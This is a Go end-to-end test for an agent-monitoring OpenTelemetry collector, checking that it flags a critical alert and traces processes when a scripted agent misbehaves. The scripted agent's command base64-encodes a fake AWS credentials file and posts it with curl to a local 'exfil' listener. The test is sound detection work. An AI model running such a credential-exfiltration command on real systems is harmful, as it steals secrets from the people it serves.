// Package e2e runs the built otelcol-agentwatch binary against real
// processes and receives what it exports over OTLP, as a backend would.
package e2e

import (
	"encoding/hex"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
	"go.opentelemetry.io/collector/pdata/pcommon"
	"go.opentelemetry.io/collector/pdata/ptrace"
	_ "google.golang.org/grpc/encoding/gzip" // the exporter compresses by default

	"github.com/agentwatch/agentwatch/internal/semconv"
	"github.com/agentwatch/agentwatch/internal/testenv"
)

// receiverConfig matches the scripted agent by its unique name.
const receiverConfig = `    hooks: auto
    session_end_grace: 500ms
    agents:
      - name: e2e-agent
        executables: [%q]`

// TestEndToEnd: a scripted agent reads a fake AWS credentials file, encodes
// it and posts it to a listener; the backend must see the critical chain
// alert and the session's process tree.
func TestEndToEnd(t *testing.T) {
	testenv.RequireRoot(t)
	if _, err := exec.LookPath("curl"); err != nil {
		t.Fatal("curl is needed by the scripted agent (apt-get install curl)")
	}
	bin := testenv.BuildCollector(t)
	s := testenv.StartOTLPSink(t) // the backend

	// Where the stolen data goes: a listener on a non-standard port.
	var posted sync.WaitGroup
	posted.Add(1)
	exfil := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		io.Copy(io.Discard, r.Body)
		w.WriteHeader(http.StatusNoContent)
		posted.Done()
	})}
	exfilLis, err := net.Listen("tcp", "127.0.0.1:0")
	require.NoError(t, err)
	go exfil.Serve(exfilLis)
	defer exfil.Close()

	// The agent: bash under a unique name, so the matcher picks it out.
	dir := t.TempDir()
	agent := testenv.AgentExecutable(t, "/bin/bash", "aw-e2e-agent")
	home := filepath.Join(dir, "home")
	require.NoError(t, os.MkdirAll(filepath.Join(home, ".aws"), 0o700))
	require.NoError(t, os.WriteFile(filepath.Join(home, ".aws", "credentials"),
		[]byte("[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\n"), 0o600))

	testenv.StartCollector(t, bin, testenv.PipelineConfig(fmt.Sprintf(receiverConfig, "aw-e2e-agent"), s.Addr))

	script := fmt.Sprintf(`base64 %s/.aws/credentials > %s/stage.b64 && curl -s --data-binary @%s/stage.b64 http://%s/upload`,
		home, dir, dir, exfilLis.Addr())
	run := exec.Command(agent, "-c", script)
	run.Dir = home
	out, err := run.CombinedOutput()
	require.NoError(t, err, "scripted agent: %s", out)
	posted.Wait()

	// The session ends after its grace; then the root span is exported.
	var (
		chain             testenv.Record
		sawChain, sawRoot bool
		root              ptrace.Span
	)
	require.Eventually(t, func() bool {
		for _, r := range s.Records() {
			if rules, ok := r.Attrs.Get(semconv.RiskRules); ok {
				for _, v := range rules.Slice().AsRaw() {
					if strings.HasPrefix(fmt.Sprint(v), "chain.") {
						chain, sawChain = r, true
					}
				}
			}
		}
		for _, sp := range s.Spans() {
			if sp.ParentSpanID().IsEmpty() && strings.HasPrefix(sp.Name(), "invoke_agent") {
				root, sawRoot = sp.Span, true
			}
		}
		return sawChain && sawRoot
	}, 30*time.Second, 200*time.Millisecond, "no chain alert and session root span")

	lvl, _ := chain.Attrs.Get(semconv.RiskLevel)
	require.Equal(t, semconv.LevelCritical, lvl.Str())
	alert, _ := chain.Attrs.Get(semconv.Alert)
	require.True(t, alert.Bool())
	score, _ := chain.Attrs.Get(semconv.RiskScore)
	require.GreaterOrEqual(t, score.Int(), int64(90))
	require.Equal(t, root.TraceID(), chain.LR.TraceID(), "the alert belongs to the session's trace")
	svc, _ := chain.Res.Get(semconv.ServiceName)
	require.Equal(t, "e2e-agent", svc.Str())

	// session → processes with correct parents.
	spans := s.Spans()
	byID := map[pcommon.SpanID]ptrace.Span{}
	for _, sp := range spans {
		if sp.TraceID() == root.TraceID() {
			byID[sp.SpanID()] = sp.Span
		}
	}
	find := func(name string, pid int) ptrace.Span {
		for _, sp := range byID {
			p, _ := sp.Attributes().Get(semconv.ProcessPID)
			if sp.Name() == name && (pid == 0 || p.Int() == int64(pid)) {
				return sp
			}
		}
		tid := root.TraceID()
		t.Fatalf("no %q span in trace %s; have %v", name, hex.EncodeToString(tid[:]), names(byID))
		return ptrace.Span{}
	}
	agentSpan := find("aw-e2e-agent", run.Process.Pid)
	require.Equal(t, root.SpanID(), agentSpan.ParentSpanID(), "the agent process hangs off the session root")
	for _, child := range []string{"base64", "curl"} {
		sp := find(child, 0)
		parent, ok := byID[sp.ParentSpanID()]
		require.True(t, ok, "%s span's parent is in the trace", child)
		require.Equal(t, "aw-e2e-agent", parent.Name(), "%s forked by the agent's shell", child)
	}
}

func names(m map[pcommon.SpanID]ptrace.Span) []string {
	var out []string
	for _, sp := range m {
		out = append(out, sp.Name())
	}
	return out
}
